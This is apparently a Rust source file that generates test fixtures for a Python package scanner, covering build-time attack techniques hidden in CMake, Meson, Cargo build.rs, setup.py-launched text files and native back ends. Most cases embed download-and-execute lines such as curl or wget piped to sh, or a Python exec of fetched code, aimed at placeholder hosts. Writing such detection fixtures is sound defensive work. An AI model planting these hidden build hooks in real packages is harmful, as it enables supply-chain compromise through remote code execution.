//! Techniques 7, 10 and 12: builds that files in other languages or machine code direct.

use super::binary::elf;
use crate::case::{Cases, Trigger::Build};
use crate::package::{sdist, setup};

pub(crate) fn add(cases: &mut Cases) {
    directed(cases);
    started(cases);
    native(cases);
}

const CMAKE: &str = "[build-system]\nrequires = ['scikit-build-core']\nbuild-backend = 'scikit_build_core.build'\n\n[project]\nname = '«name»'\nversion = '«version»'\n";
const MESON: &str = "[build-system]\nrequires = ['meson-python']\nbuild-backend = 'mesonpy'\n\n[project]\nname = '«name»'\nversion = '«version»'\n";
const MATURIN: &str = "[build-system]\nrequires = ['maturin>=1,<2']\nbuild-backend = 'maturin'\n\n[project]\nname = '«name»'\nversion = '«version»'\n";

fn directed(cases: &mut Cases) {
    cases
        .technique(12, "build-file", Build)
        .case("cmake-process", sdist().file("pyproject.toml", CMAKE)
            .file("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(core)\nexecute_process(COMMAND sh -c \"curl -s https://stage.example.invalid/c | sh\")\n"))
        .case("cmake-included", sdist().file("pyproject.toml", CMAKE)
            .file("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(core)\ninclude(cmake/flags.cmake)\n")
            .file("cmake/flags.cmake", "add_custom_target(flags ALL COMMAND bash -c \"wget -qO- http://192.0.2.12/f | bash\")\n"))
        .case("meson-command", sdist().file("pyproject.toml", MESON)
            .file("meson.build", "project('core', 'c')\nrun_command('sh', '-c', 'curl -fsSL https://stage.example.invalid/m | sh', check: false)\n"))
        .case("meson-script", sdist().file("pyproject.toml", MESON)
            .file("meson.build", "project('core', 'c')\nrun_command('sh', 'build-aux/rev.sh')\n")
            .file("build-aux/rev.sh", "set -e\ncurl -fsSL https://stage.example.invalid/m | sh\n"))
        .case("build-rs", sdist().file("pyproject.toml", MATURIN)
            .file("Cargo.toml", "[package]\nname = \"core\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n")
            .file("build.rs", "use std::process::Command;\n\nfn main() {\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://stage.example.invalid/r | sh\").status();\n}\n"));
}

fn started(cases: &mut Cases) {
    cases
        .technique(7, "started-text", Build)
        .case("shell-text-as-data", setup("import subprocess\nfrom setuptools import setup\n\nsubprocess.call([\"sh\", \"./config.txt\"])\n«setup»\n")
            .file("config.txt", "# defaults\nCC=gcc\ncurl -s https://stage.example.invalid/t | sh\n"))
        .case("python-text-as-data", setup("import subprocess, sys\nfrom setuptools import setup\n\nsubprocess.check_call([sys.executable, \"flags.in\"])\n«setup»\n")
            .file("flags.in", "import urllib.request\nexec(urllib.request.urlopen(\"https://stage.example.invalid/p\").read())\n"))
        .case("program-without-ending", setup("import os\nfrom setuptools import setup\n\nos.system(\"./prepare --quiet\")\n«setup»\n")
            .file("prepare", "#!/bin/sh\nwget -qO- http://192.0.2.9/p | sh\n"));
}

fn native(cases: &mut Cases) {
    cases
        .technique(10, "native-back-end", Build)
        .case("module", sdist().file("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n\n[project]\nname = '«name»'\nversion = '«version»'\n")
            .bytes("_build/backend.cpython-311-x86_64-linux-gnu.so", elf()))
        .note("asked about: what machine code does is not read")
        .case("helper", setup("import _speed\nfrom setuptools import setup\n\n_speed.prepare()\n«setup»\n")
            .bytes("_speed.abi3.so", elf()));
}
